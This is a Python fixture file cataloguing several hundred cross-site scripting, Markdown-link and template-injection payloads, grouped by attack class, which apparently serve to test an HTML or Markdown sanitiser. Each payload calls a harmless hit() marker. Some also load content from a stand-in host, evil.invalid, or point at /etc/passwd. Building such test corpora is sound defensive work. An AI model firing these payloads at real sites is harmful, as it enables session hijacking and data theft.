"""Words that want to run: our own collection, by classes of attack. Whatever runs calls `hit()`.

Each vector carries a mark of its own (`H001`, `H002` ...) in front, so that a test can also see that its words are
still there: what cannot run is shown, not swallowed.
"""

from dataclasses import dataclass
from urllib.parse import quote

HIT = "hit()"
ELSEWHERE = "https://evil.invalid"


@dataclass(frozen=True)
class Vector:
    """A hostile text in one line. `family` is its class of attack."""

    mark: str
    family: str
    text: str

    def __str__(self) -> str:
        return f"{self.mark} {self.text}"


def _spelled(text: str, form: str) -> str:
    """Each character as an HTML entity: decimal, hexadecimal, or padded with zeros."""
    return "".join(form.format(ord(character)) for character in text)


TAGS = [
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script >{HIT}</script\t>",
    f"<script/x>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script>{HIT}//",
    f"<<script>{HIT}//<</script>",
    f"<script src='data:text/javascript,{HIT}'></script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script type=module>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"<noscript><p title='</noscript><script>{HIT}</script>'>",
    f"<template><script>{HIT}</script></template>",
    f"<iframe src='javascript:parent.{HIT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{HIT}</script>'></object>",
    f"<embed src='javascript:{HIT}'>",
    f"<base href='javascript:{HIT}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/a.css';</style>",
    f"<form action='javascript:{HIT}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{HIT}'>x</button>",
    f"<input type=image src=x onerror={HIT}>",
    f"<dialog open oncancel={HIT}>x</dialog>",
]

EVENTS = [
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror='{HIT}'>",
    f"<IMG SRC=x ONERROR={HIT}>",
    f"<img src=x\tonerror\t=\t{HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x:x onerror={HIT}//",
    f'<img alt="`" src=x onerror={HIT} title="`">',
    f"<img src='x' onerror=\"{HIT}\" onload={HIT}>",
    f"<img srcset=x onerror={HIT}>",
    f"<picture><source srcset=x><img onerror={HIT}></picture>",
    f"<video src=x onerror={HIT}></video>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<body onload={HIT}>",
    f"<body onpageshow={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>",
    f"<a href=# id=x tabindex=1 onfocus={HIT}>x</a>",
    f"<p onmouseenter={HIT} style='position:fixed;inset:0'>x</p>",
    f"<div onanimationstart={HIT} style='animation:x 1s'>x</div>",
    f"<div onbeforescriptexecute={HIT}>x</div>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<p contenteditable autofocus onbeforeinput={HIT}>x</p>",
    f"<p popover id=p onbeforetoggle={HIT}>x</p><button popovertarget=p>x</button>",
    f'" onfocus={HIT} autofocus x="',
    f"' onfocus={HIT} autofocus x='",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"` onerror={HIT} x=`",
]

SPELLINGS = [
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "&#0000060img src=x onerror=hit()&#0000062",
    "&ltscript&gthit()&lt/script&gt",
    "\\<script\\>hit()\\</script\\>",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2039script\u203ahit()\u2039/script\u203a",
    "\u02c2img src=x onerror=hit()\u02c3",
    f"<a href='{_spelled('javascript:hit()', '&#{};')}'>x</a>",
    f"<a href='{_spelled('javascript:hit()', '&#x{:x}')}'>x</a>",
    f"<a href='{_spelled('javascript:hit()', '&#{:07d}')}'>x</a>",
    f"<img src=x onerror='{_spelled('hit()', '&#{};')}'>",
    "<img src=x onerror=&quot;hit()&quot;>",
    "<ſcript>hit()</ſcript>",
    "<img src=x onerror=hit&lpar;&rpar;>",
    "\u202e<script>hit()</script>\u202c",
    "<\u200bscript>hit()</\u200bscript>",
    "<s\u00adcript>hit()</s\u00adcript>",
]

NAMESPACES = [
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href='data:text/javascript,{HIT}'/></svg>",
    f"<svg><script>{_spelled(HIT, '&#{};')}</script></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values='javascript:{HIT}'/><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={HIT}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{HIT}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><image href=x onerror={HIT}></svg>",
    f"<svg><desc><![CDATA[</desc><script>{HIT}</script>]]></svg>",
    f"<svg><title><style><a id='</style><img src=x onerror={HIT}>'></svg>",
    f"<math><a xlink:href='javascript:{HIT}'>x</a></math>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{HIT}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={HIT}></annotation-xml></math>",
    f"<xml:namespace prefix=t><t:set onbegin={HIT}>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<noscript><style></noscript><img src=x onerror={HIT}></style>",
    f"<p><svg><style><!--</style><img src=x onerror={HIT}>--></style>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f"<xmp></xmp><img src=x onerror={HIT}></xmp>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"<noembed><img title='</noembed><img src=x onerror={HIT}>'></noembed>",
    f"<a title='</a><img src=x onerror={HIT}>'>x</a>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<!-- --!><img src=x onerror={HIT}> -->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<?php echo '?><img src=x onerror={HIT}>' ?>",
    f"<! foo='><img src=x onerror={HIT}>'>",
    f"<table><td><img src=x onerror={HIT}></table><caption>",
    f"<select><option><style></option></select><img src=x onerror={HIT}></style>",
    f'<a href="x`" `onclick={HIT}">x</a>',
]

ADDRESSES = [
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x]( javascript:{HIT})",
    f"[x](<javascript:{HIT}>)",
    f"[x](<java\tscript:{HIT}>)",
    f"[x](<\x01javascript:{HIT}>)",
    f"[x](<\u00a0javascript:{HIT}>)",
    f"[x](<\u2028javascript:{HIT}>)",
    f"[x](java&Tab;script:{HIT})",
    f"[x](java&NewLine;script:{HIT})",
    f"[x](javascript&colon;{HIT})",
    f"[x](&#106;avascript:{HIT})",
    f"[x](&#x6A&#x61vascript:{HIT})",
    f"[x](%6aavascript:{HIT})",
    f"[x](javascript%3A{HIT})",
    f"[x](javascript://evil.invalid/%0a{HIT})",
    f"[x](vbscript:{HIT})",
    f"[x](livescript:{HIT})",
    f"[x](view-source:javascript:{HIT})",
    f"[x](data:text/html,{quote(f'<script>{HIT}</script>')})",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    f"[x](data:image/svg+xml,{quote(f'<svg onload={HIT}>')})",
    "[x](blob:https://evil.invalid/0)",
    "[x](filesystem:https://evil.invalid/temporary/a.html)",
    "[x](file:///etc/passwd)",
    "[x](//evil.invalid/)",
    "[x](\\\\evil.invalid\\a)",
    "[x](/it/account)",
    "[x](https:javascript:hit())",
    "[x](term:javascript:hit())",
    "[x](lesson:../../../javascript:hit())",
    f'[x](term:outcome"onmouseover={HIT})',
    f"[x](fact:a'onmouseover='{HIT})",
]

MARKDOWN = [
    f'[x](https://evil.invalid/ "onmouseover={HIT}")',
    f"[x](https://evil.invalid/ '\"><img src=x onerror={HIT}>')",
    f'[x](https://evil.invalid/" onmouseover="{HIT})',
    f'[x](https://evil.invalid/"><script>{HIT}</script>)',
    f"[x](<https://evil.invalid/'onmouseover='{HIT}>)",
    f"![x](javascript:{HIT})",
    f'![x](x "onerror={HIT}")',
    f'!["onerror="{HIT}](x)',
    f"![x]({ELSEWHERE}/a.png)",
    f"[x][javascript:{HIT}]",
    f"<javascript:{HIT}>",
    f'<https://evil.invalid/"onclick={HIT}>',
    f"<a@evil.invalid?onclick={HIT}>",
    f'<mailto:a@evil.invalid"onclick={HIT}>',
    f"**<img src=x onerror={HIT}>**",
    f"*__**<b onclick={HIT}>x</b>**__*",
    f"`<img src=x onerror={HIT}>`",
    f"`` ` ``<img src=x onerror={HIT}>``",
    f"\\`<script>{HIT}</script>\\`",
    f"[<img src=x onerror={HIT}>](https://evil.invalid/)",
    f"[![x](x)](javascript:{HIT})",
    f'[a](javascript:{HIT}"[b](javascript:{HIT})',
    f"[^x]: <img src=x onerror={HIT}>",
    "[^<script>hit()</script>]",
    f"*[HTML]: <img src=x onerror={HIT}>",
    f"x{{: onclick={HIT} }}",
    f"x{{#a onclick={HIT}}}",
    f"\x02amp\x03#60;script>{HIT}",
    f"\x02klzzwxh:0000\x03<script>{HIT}</script>",
    f"| <img src=x onerror={HIT}> | a |",
    f"~~~{{onclick={HIT}}}",
    f":::<script>{HIT}</script>",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ config.items() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% raw %}{{ hit() }}{% endraw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %(constructor)s %s %d %%",
    "{0.__class__} {self} {name!r}",
    "[[${7*7}]]",
    "*{7*7}",
    "@(7*7)",
    "__proto__ constructor.constructor('hit()')()",
    "<b ng-app ng-csp>{{$on.constructor('hit()')()}}</b>",
    "<b x-data x-init=hit()>x</b>",
    "<b v-html=\"''.constructor.constructor('hit()')()\">x</b>",
]

FAMILIES = {
    "tags": TAGS,
    "events": EVENTS,
    "spellings": SPELLINGS,
    "namespaces": NAMESPACES,
    "mutations": MUTATIONS,
    "addresses": ADDRESSES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
}

VECTORS = tuple(
    Vector(f"H{number:03d}", family, text)
    for number, (family, text) in enumerate(
        ((family, text) for family, texts in FAMILIES.items() for text in texts), start=1
    )
)
